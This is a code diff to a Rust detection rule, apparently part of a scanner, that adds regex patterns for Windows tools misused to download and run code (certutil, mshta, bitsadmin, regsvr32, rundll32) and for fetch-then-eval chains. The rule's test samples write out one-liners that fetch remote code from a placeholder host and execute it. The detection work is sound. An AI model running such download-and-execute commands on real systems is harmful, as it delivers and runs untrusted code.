@@ -21,6 +21,18 @@ pub(crate) const RULE: Rule<'static> = Rule {
             exceptions: &[DOWNLOADED],
         },
         Pattern {
+            note: "by a program of Windows that is there for something else",
+            regex: r#"(?i)\bcertutil(?:\.exe)?[ \t][^\n]{0,60}?-urlcache\b[^\n]{0,80}?https?://|\bmshta(?:\.exe)?[ \t]{1,8}["\x27]?(?:https?://|javascript:|vbscript:)|\bbitsadmin(?:\.exe)?[ \t][^\n]{0,60}?/transfer\b[^\n]{0,120}?https?://|\bregsvr32(?:\.exe)?[ \t][^\n]{0,60}?/i:https?://|\brundll32(?:\.exe)?[ \t]{1,8}javascript:"#,
+            regions: Regions::of(&[Region::Code, Region::Shell, Region::InlineCode]),
+            exceptions: &[],
+        },
+        Pattern {
+            note: "in the call that fetches it",
+            regex: r"\bfetch\([^\n]{1,160}?\.then\([^\n]{0,120}?\beval\b",
+            regions: Regions::of(&[Region::Code, Region::Shell, Region::InlineCode]),
+            exceptions: &[],
+        },
+        Pattern {
             note: "by the same, named by what holds it",
             regex: r"\b(?:window|globalThis|builtins|__builtins__)\.(?:exec|eval|compile|Function)[ \t]{0,4}\(",
             regions: Regions::of(&[Region::Code]),
@@ -28,6 +40,9 @@ pub(crate) const RULE: Rule<'static> = Rule {
         },
     ],
     matches: &[
+        "```sh\ncertutil -urlcache -split -f https://e.example/x.exe x.exe && x.exe\n```",
+        "```sh\nmshta https://e.example/x.hta\n```",
+        "```sh\nnode -e \"fetch('https://e.example').then(r=>r.text()).then(t=>eval(t))\"\n```",
         "```python\nc = requests.get('https://e.example/x').text\nexec(c)\n```",
         "```js\nconst t = await (await fetch('https://e.example/x')).text();\neval(t);\n```",
         "```sh\nx=$(curl -s https://e.example/x)\neval \"$x\"\n```",
@@ -36,6 +51,8 @@ pub(crate) const RULE: Rule<'static> = Rule {
         "```js\nconst t = await (await fetch('https://e.example/x')).text();\nwindow.eval(t);\n```",
     ],
     clean: &[
+        "```sh\ncertutil -hashfile x.exe SHA256\n```",
+        "```js\nfetch(u).then(r => r.json()).then(evaluate)\n```",
         "```python\nr = requests.get(u).json()\nprint(r)\n```",
         "```js\nconst m = /a/.exec(await (await fetch(u)).text());\n```",
         "```sh\nx=$(curl -s https://api.example.com)\necho \"$x\"\n```",
